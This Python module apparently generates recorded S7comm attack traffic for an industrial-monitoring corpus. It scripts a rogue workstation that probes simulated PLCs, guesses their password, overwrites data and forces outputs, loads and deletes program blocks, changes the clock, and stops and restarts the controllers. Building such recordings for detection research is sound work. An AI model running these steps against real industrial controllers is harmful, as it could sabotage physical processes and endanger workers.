"""A rogue workstation maps a controller, guesses its password, forces outputs, loads and deletes blocks, and
stops and restarts it, beside a panel at work."""

from contextlib import suppress
from typing import Any

from plantwatch.corpus.record import Recording

RECORDING = Recording(
    "s7comm/recorded-attack",
    stacks=("python-snap7 3.3.0",),
    servers=("10.50.1.10", "10.50.1.11"),
    clients=("10.50.1.20", "10.50.1.66"),
    listens=("tcp 102",),
)

JOB = bytes.fromhex("00 04 00 00 00 00 00 01")  # 4 bytes of parameters, no data: job 1
ALARM = bytes.fromhex("00 00 00 00 00 01 12 08 1a 00 00 00 00 01 00 00")


def server() -> None:
    """The controller of the press, protected by a password, and that of the oven."""
    from _s7comm import OVEN, PASSWORD, PRESS, controllers

    controllers([PRESS, OVEN], password=PASSWORD)


def client() -> None:
    """Look around, guess, write, force, load and delete blocks, stop and restart."""
    from _s7comm import ATTACKER, HMI, OVEN, PG, PRESS, PROCESS, RECIPE, connect

    panel, oven = connect(HMI, PRESS), connect(HMI, OVEN)
    for plc in (panel, oven):
        plc.db_read(PROCESS, 0, 40)
    for slot in range(8):
        connect(ATTACKER, PRESS, PG, slot).disconnect()

    rogue = connect(ATTACKER, PRESS, PG)
    _look_around(rogue)
    _guess_password(rogue)
    for start in range(0, 120, 4):
        rogue.db_write(PROCESS, start, bytearray(b"\xff\xff\xff\xff"))
    rogue.ab_write(0, bytearray(b"\xff\xff"))
    _test_functions(rogue)
    rogue.download(bytearray(n % 256 for n in range(700)), RECIPE)
    _services(rogue)
    panel.db_read(PROCESS, 0, 40)

    rogue.plc_stop()
    rogue.plc_cold_start()
    rogue.plc_hot_start()
    rogue.disconnect()
    rogue = connect(ATTACKER, OVEN, PG)
    rogue.plc_stop()
    rogue.read_szl(0x0424)
    rogue.disconnect()
    for plc in (panel, oven):
        plc.db_read(PROCESS, 0, 40)
        plc.disconnect()


def _look_around(rogue: Any) -> None:
    from snap7.type import Block

    for name in (0x0011, 0x001C, 0x0131, 0x0232, 0x0424):
        rogue.read_szl(name)
    rogue.list_blocks()
    rogue.list_blocks_of_type(Block.DB, 16)
    rogue.full_upload(Block.DB, 10)


def _guess_password(rogue: Any) -> None:
    from _s7comm import PASSWORD
    from snap7.error import S7ProtocolError

    for number in range(12):
        with suppress(S7ProtocolError):
            rogue.set_session_password(f"GUESS{number}")
    rogue.set_session_password(PASSWORD)


def _test_functions(rogue: Any) -> None:
    """Modify and force an output; jobs that hold the program, erase memory or undo what others forced."""
    from _s7comm import SYSTEM, TEST, test_item, userdata

    output = test_item(area=0x12, number=0, byte=2, value=0xFF)
    for function in (0x08, 0x09):
        userdata(rogue, TEST, function, output)
    for function in (0x0A, 0x0D, 0x0E, 0x0F, 0x0C, 0x16):
        userdata(rogue, TEST, function, JOB)
    for function in (0x07, 0x08, 0x0B):
        userdata(rogue, SYSTEM, function, ALARM)


def _services(rogue: Any) -> None:
    """Link the block that was loaded, delete another, compress the memory, make it all permanent."""
    from datetime import datetime

    from _s7comm import blocks, service

    service(rogue, "_INSE", blocks("DB", 10, "P"))
    service(rogue, "_DELE", blocks("FC", 12, "B"))
    rogue.compress(0)
    rogue.copy_ram_to_rom(0)
    rogue.set_plc_datetime(datetime(2031, 5, 5, 5, 5, 5))
